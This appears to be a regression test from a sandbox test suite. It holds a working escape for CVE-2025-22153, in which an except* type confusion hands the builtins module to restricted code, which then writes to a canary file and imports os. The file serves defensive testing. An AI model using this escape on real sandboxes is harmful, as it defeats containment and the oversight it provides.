# SPDX-License-Identifier: Apache-2.0
# tries: make except* take the words inside a built-in function for exceptions (P06)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# needs: python>=3.11
# for: restricted
#
# CVE-2025-22153.  `except*` asks a group to split itself and believes that the answer is a tuple,
# whose two items are the words at 24 and 32 of the object.  Ours answers `len`: there, a built-in
# function keeps its module.  What `except*` binds to e is the whole builtins module, which no
# guard has handed out.  Fixed in CPython 3.12.9 and 3.13.2; RestrictedPython 8.0 refuses except*
# altogether.


class Group(ExceptionGroup):
    def split(self, kind):
        return len


def leak():
    try:
        raise Group('', [Exception()])
    except* ValueError as e:
        yield e


generator = leak()
for module in generator:
    break

try:
    module.open('@CANARY@/file', 'w').write('PWNED')
except Exception:
    pass

# End here and now: Python would crash when it takes the module for the exception that it handles.
reach = module.getattr
reach(reach(module, '__import__')('os'), '_exit')(0)
